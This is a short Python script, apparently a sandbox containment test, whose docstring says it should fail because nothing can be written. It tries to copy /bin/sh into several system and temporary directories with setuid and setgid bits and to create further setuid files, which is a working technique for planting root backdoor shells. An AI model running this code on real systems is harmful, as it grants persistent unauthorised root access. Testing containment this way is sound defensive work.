#!/usr/bin/python3
"""Writes setuid programs wherever it can, for somebody to start later. Fault: early-exit, for none can be written."""
import os
import shutil
import sys

print("__READY__", flush=True)
sys.stdin.readline()
made = []
for folder in ("/tmp", "/bot", "/dev/shm", "/usr/local/bin", "/"):
    path = os.path.join(folder, "shell")
    try:
        shutil.copyfile("/bin/sh", path)
        os.chmod(path, 0o6755)
        made.append(path)
    except OSError:
        pass
    try:
        os.close(os.open(path + "2", os.O_CREAT | os.O_WRONLY, 0o4755))
        made.append(path + "2")
    except OSError:
        pass
sys.exit(f"made: {made}")
